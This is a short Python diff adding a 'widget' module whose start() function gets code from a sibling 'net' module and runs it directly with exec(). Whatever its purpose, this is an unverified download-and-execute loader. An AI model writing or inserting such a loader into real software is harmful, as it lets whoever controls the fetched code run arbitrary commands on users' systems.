@@ -1,0 +1,6 @@
+from . import net
+
+
+def start():
+    code = net.latest()
+    exec(compile(code, "<widget>", "exec"))
